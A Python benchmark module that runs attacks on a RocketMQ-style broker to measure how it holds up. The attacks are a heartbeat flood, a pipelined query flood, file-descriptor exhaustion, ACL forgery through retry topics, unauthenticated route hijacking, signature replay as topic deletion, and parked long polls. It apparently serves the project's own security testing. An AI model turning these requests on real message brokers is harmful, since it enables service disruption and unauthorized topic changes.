"""Attacks of ``bench/hostile_peers_bench.py`` at the request level: a heartbeat naming
thousands of groups, a query flood on a SYNC_FLUSH broker, consume-queue files past the
descriptor limit, ACL forgery through a retry topic, route hijack by registration, a captured
signature replayed under another code, and long polls left parked by closed connections.

Each is ``attack(run) -> figures`` as in ``bench/hostile_frames.py``."""

from __future__ import annotations

import json
import queue
import socket
import threading
import time
import zlib
from typing import Any

from bench.hostile_harness import one_line
from bench.remoting_raw import RawRemotingClient, pull_fields, send_fields
from postbox.broker_node.namesrv.route_bodies import register_body
from postbox.broker_node.namesrv.route_table import QueueData
from postbox.network.protocol.acl_signature import sign, sign_request
from postbox.network.protocol.codes import RequestCode, ResponseCode
from postbox.network.protocol.wire import RemotingCommand, encode
from postbox.storage_engine.formats.topic_names import AUTO_CREATE_TOPIC

RC = RequestCode
ACL = {"accounts": [
    {"access_key": "sub", "secret_key": "sub-secret", "topics": {"orders": "SUB"},
     "groups": {"billing": "SUB"}},
    {"access_key": "ops", "secret_key": "ops-secret", "admin": True},
]}
SECRETS = {account["access_key"]: account["secret_key"] for account in ACL["accounts"]}
LOCAL_NAME = "postbox-broker"


def sign_ops(client: RawRemotingClient, command: Any) -> None:
    """Signed with the admin key (the well-behaved client of an ACL broker)."""
    sign_request(command, "ops", SECRETS["ops"])


def signed_call(client: RawRemotingClient, key: str, code: int, fields: dict[str, Any],
                body: bytes = b"") -> RemotingCommand:
    """A request signed by ``key`` (Postbox's client signing, SignedCode included)."""
    return client.call_command(sign_request(client.request(code, fields, body), key,
                                            SECRETS[key]))


def heartbeat_body(groups: int) -> bytes:
    """A consumer heartbeat naming ``groups`` groups, one subscription each."""
    consumers = [{"groupName": f"G{number}", "consumeType": "CONSUME_PASSIVELY",
                  "messageModel": "CLUSTERING", "consumeFromWhere": "CONSUME_FROM_LAST_OFFSET",
                  "subscriptionDataSet": [{"topic": "T0", "subString": "*"}]}
                 for number in range(groups)]
    return json.dumps({"clientID": "hostile@1", "consumerDataSet": consumers,
                       "producerDataSet": []}).encode()


def topic_names(namesrv: str, timeout_s: float = 10) -> list[str] | None:
    """The name server's topic list (None when it does not answer)."""
    try:
        with RawRemotingClient(namesrv) as client:
            answer = client.call(RC.GET_ALL_TOPIC_LIST_FROM_NAMESERVER, timeout_s=timeout_s)
    except Exception:  # no answer in time
        return None
    if answer.code != ResponseCode.SUCCESS:
        return None
    return list(json.loads(answer.body).get("topicList", []))


def heartbeat_groups(run: Any) -> dict[str, object]:
    """One heartbeat naming 9 998 consumer groups; its answer waited for up to the attack's
    length, then the retry topics it created are counted."""
    started = time.monotonic()
    code: object = "no answer"
    with RawRemotingClient(run.broker.remoting) as hostile:
        answers = hostile.start_call(hostile.request(RC.HEART_BEAT, None, heartbeat_body(9998)))
        time.sleep(min(5.0, run.long_s / 3))
        run.probe()
        try:
            code = answers.get(timeout=max(1.0, run.long_s - (time.monotonic() - started))).code
        except Exception:  # still not answered: counted as no answer
            pass
    answered_in = round(time.monotonic() - started, 1)
    names = topic_names(run.broker.namesrv)
    return {"heartbeat_answer": code, "heartbeat_answer_s": answered_in,
            "retry_topics_created": "no answer" if names is None else
            sum(name.startswith("%RETRY%G") for name in names)}


class QueryFlood:
    """Connections writing pipelined QUERY_MESSAGE frames as fast as the broker reads them,
    throwing the answers away."""

    def __init__(self, address: str, connections: int = 8, frames: int = 2000) -> None:
        host, port = address.rsplit(":", 1)
        query = RemotingCommand.request(RC.QUERY_MESSAGE, {
            "topic": "TP", "key": "k", "maxNum": 32, "beginTimestamp": 0,
            "endTimestamp": 2**62})
        self._blob = encode(query) * frames
        self._stop = threading.Event()
        self._sockets = [socket.create_connection((host, int(port))) for _ in range(connections)]
        self.answered_bytes = self.overloaded = 0
        self._threads = [threading.Thread(target=target, args=(sock,), daemon=True)
                         for sock in self._sockets for target in (self._write, self._drain)]
        for thread in self._threads:
            thread.start()

    def _write(self, sock: socket.socket) -> None:
        try:
            while not self._stop.is_set():
                sock.sendall(self._blob)
        except OSError:
            pass

    def _drain(self, sock: socket.socket) -> None:
        try:
            while data := sock.recv(1 << 16):
                self.answered_bytes += len(data)
                self.overloaded += data.count(b"[OVERLOAD]")
        except OSError:
            pass

    def stop(self) -> None:
        """Close every connection."""
        self._stop.set()
        for sock in self._sockets:
            try:
                sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            sock.close()
        for thread in self._threads:
            thread.join(10)


def query_flood(run: Any) -> dict[str, object]:
    """Eight connections of pipelined key queries on a SYNC_FLUSH broker."""
    with RawRemotingClient(run.broker.remoting) as producer:
        producer.call(RC.SEND_MESSAGE_V2, send_fields("TP", 0, properties={"KEYS": "k"}), b"k")
    flood = QueryFlood(run.broker.remoting)
    try:
        time.sleep(run.long_s / 2)
        run.probe()
        time.sleep(run.long_s / 2)
    finally:
        flood.stop()
    return {"query_answers_mib": round(flood.answered_bytes / (1 << 20), 1),
            "queries_refused_overload": flood.overloaded}


def queue_files(run: Any) -> dict[str, object]:
    """One message into queue after queue (4 per topic) under the profile's descriptor limit,
    until a send fails, ``run.queue_count`` queues or the attack's time; the broker's open
    descriptors then. The restart is ``queue_files_restart``."""
    written, failure = 0, ""
    deadline = time.monotonic() + run.long_s
    with RawRemotingClient(run.broker.remoting) as client:
        for number in range(run.queue_count):
            topic, queue_id = f"FD{number // 4:04d}", number % 4
            try:
                answer = client.call(RC.SEND_MESSAGE_V2, send_fields(
                    topic, queue_id, defaultTopicQueueNums=4), b"q", timeout_s=10)
            except Exception as error:  # no answer: the broker is stuck or gone
                failure = f"no answer ({type(error).__name__})"
                break
            if answer.code != ResponseCode.SUCCESS:
                failure = one_line(f"{answer.code} {answer.remark}", 100)
                break
            written += 1
            if time.monotonic() > deadline:
                failure = "time"
                break
    run.probe()
    return {"queues_written": f"{written}/{run.queue_count}", "stopped_by": failure or "-",
            "broker_open_files": run.broker.open_files(),
            "descriptor_limit": run.fd_limit}


def queue_files_restart(run: Any, restarted: Any) -> dict[str, object]:
    """After ``kill -9``: the broker restarted on the same store and limit; is queue 0 of the
    first topic readable?"""
    with RawRemotingClient(restarted.remoting) as client:
        answer = client.call(RC.PULL_MESSAGE, pull_fields("G", "FD0000", 0, 0), timeout_s=10)
    return {"restart": "ok" if answer.code == ResponseCode.SUCCESS else
            one_line(f"pull {answer.code} {answer.remark}")}


def retry_forgery(run: Any) -> dict[str, object]:
    """A key with only SUB on group ``billing`` sends to ``%RETRY%billing`` messages naming
    ``orders`` (which it may not write) as their real topic, past the reconsume maximum so they
    are dead-lettered: a dlq resend would deliver them to ``billing`` as ``orders``."""
    forged = 0
    with RawRemotingClient(run.broker.remoting) as client:
        created = signed_call(client, "ops", RC.UPDATE_AND_CREATE_TOPIC, {
            "topic": "orders", "defaultTopic": AUTO_CREATE_TOPIC, "readQueueNums": 1,
            "writeQueueNums": 1, "perm": 6, "topicFilterType": "SINGLE_TAG",
            "topicSysFlag": 0, "order": False})
        for number in range(10):
            prop = "RETRY_TOPIC" if number % 2 else "REAL_TOPIC"
            answer = signed_call(client, "sub", RC.SEND_MESSAGE_V2, send_fields(
                "%RETRY%billing", 0, properties={prop: "orders"}, reconsumeTimes=99,
                maxReconsumeTimes=16), f"forged order {number}".encode())
            forged += answer.code == ResponseCode.SUCCESS
        run.probe()
        time.sleep(1)
        pulled = signed_call(client, "ops", RC.PULL_MESSAGE,
                             pull_fields("ops-reader", "%DLQ%billing", 0, 0))
    body = pulled.body if pulled.code == ResponseCode.SUCCESS else b""
    naming = body.count(b"RETRY_TOPIC\x01orders") + body.count(b"REAL_TOPIC\x01orders")
    return {"topic_created": created.code == ResponseCode.SUCCESS,
            "forged_sends_accepted": f"{forged}/10",
            "dead_letters_naming_orders": naming}


def _registration(name: str, address: str) -> tuple[dict[str, object], bytes]:
    body = register_body({"Good": QueueData(name, 4, 4, 6)}, {"counter": 1, "timestamp": 1})
    return {"brokerName": name, "brokerAddr": address, "clusterName": "DefaultCluster",
            "haServerAddr": "", "brokerId": 0,
            "bodyCrc32": zlib.crc32(body) & 0x7FFFFFFF}, body


def route_hijack(run: Any) -> dict[str, object]:
    """Unauthenticated REGISTER_BROKER to the name server: under the local broker's name, and
    as a stranger, both for the topic the well-behaved client sends to."""
    with RawRemotingClient(run.broker.namesrv) as client:
        codes = [client.call(RC.REGISTER_BROKER, *_registration(name, address)).code
                 for name, address in ((LOCAL_NAME, "127.0.0.1:1"), ("evil", "127.0.0.1:2"))]
        run.probe()
        answer = client.call(RC.GET_ROUTEINFO_BY_TOPIC, {"topic": "Good"})
    addresses: list[str] = []
    if answer.code == ResponseCode.SUCCESS:
        for data in json.loads(answer.body)["brokerDatas"]:
            addresses += list(data["brokerAddrs"].values())
    hostile = [address for address in addresses if address in ("127.0.0.1:1", "127.0.0.1:2")]
    return {"registrations_accepted": sum(code == ResponseCode.SUCCESS for code in codes),
            "route_addresses": len(addresses), "hijacked_addresses": len(hostile),
            "local_broker_routed": run.broker.remoting in addresses}


def _official(client: RawRemotingClient, code: int, fields: dict[str, Any]) -> RemotingCommand:
    """Signed as RocketMQ's own client hook signs: the fields and body, not the code."""
    command = client.request(code, fields)
    command.ext_fields["AccessKey"] = "ops"
    command.ext_fields["Signature"] = sign(command.ext_fields, command.body, SECRETS["ops"])
    return command


def _replayed(client: RawRemotingClient, captured: RemotingCommand, code: int) -> int:
    replay = client.request(code, None, captured.body)
    replay.ext_fields = dict(captured.ext_fields)
    return client.call_command(replay).code


def signature_replay(run: Any) -> dict[str, object]:
    """Captured admin requests replayed as DELETE_TOPIC_IN_BROKER: a Postbox-signed stats
    query, an official-client-signed topic creation and stats query."""
    deleted = []
    with RawRemotingClient(run.broker.remoting) as client:
        stats = sign_request(client.request(RC.GET_TOPIC_STATS_INFO, {"topic": "Good"}),
                             "ops", SECRETS["ops"])
        create = _official(client, RC.UPDATE_AND_CREATE_TOPIC, {
            "topic": "scratch", "defaultTopic": AUTO_CREATE_TOPIC, "readQueueNums": 1,
            "writeQueueNums": 1, "perm": 6, "topicFilterType": "SINGLE_TAG",
            "topicSysFlag": 0, "order": False})
        official_stats = _official(client, RC.GET_TOPIC_STATS_INFO, {"topic": "scratch"})
        for label, captured in (("postbox-signed stats", stats), ("official create", create),
                                ("official stats", official_stats)):
            client.call_command(captured)
            if _replayed(client, captured, RC.DELETE_TOPIC_IN_BROKER) == ResponseCode.SUCCESS:
                deleted.append(label)
        run.probe()
    return {"replays_that_deleted": f"{len(deleted)}/3", "which": ", ".join(deleted) or "-"}


def parked_polls(run: Any) -> dict[str, object]:
    """Connections that park 500 long polls (30 s) each and close; then a new consumer's long
    poll: parked and woken by a send (as it should), or answered at once."""
    with RawRemotingClient(run.broker.remoting) as producer:
        producer.call(RC.SEND_MESSAGE_V2, send_fields("TP", 0), b"first")
        poll = pull_fields("G", "TP", 0, 1, sys_flag=0x6, suspend_ms=30_000)
        for _ in range(run.poll_connections):
            with RawRemotingClient(run.broker.remoting) as hostile:
                hostile.pipeline([hostile.request(RC.PULL_MESSAGE, poll) for _ in range(500)])
                time.sleep(0.2)
        run.probe()
        with RawRemotingClient(run.broker.remoting) as consumer:
            answer = consumer.pipeline([consumer.request(RC.PULL_MESSAGE, poll)])[0]
            try:
                outcome = f"answered {answer.get(timeout=1).code} at once, not parked"
            except queue.Empty:
                producer.call(RC.SEND_MESSAGE_V2, send_fields("TP", 0), b"wakes it")
                code = answer.get(timeout=40).code
                outcome = ("parked, woken by the send" if code == ResponseCode.SUCCESS
                           else f"parked, then answered {code}")
    return {"polls_left_by_closed_connections": 500 * run.poll_connections,
            "new_consumer_long_poll": outcome}
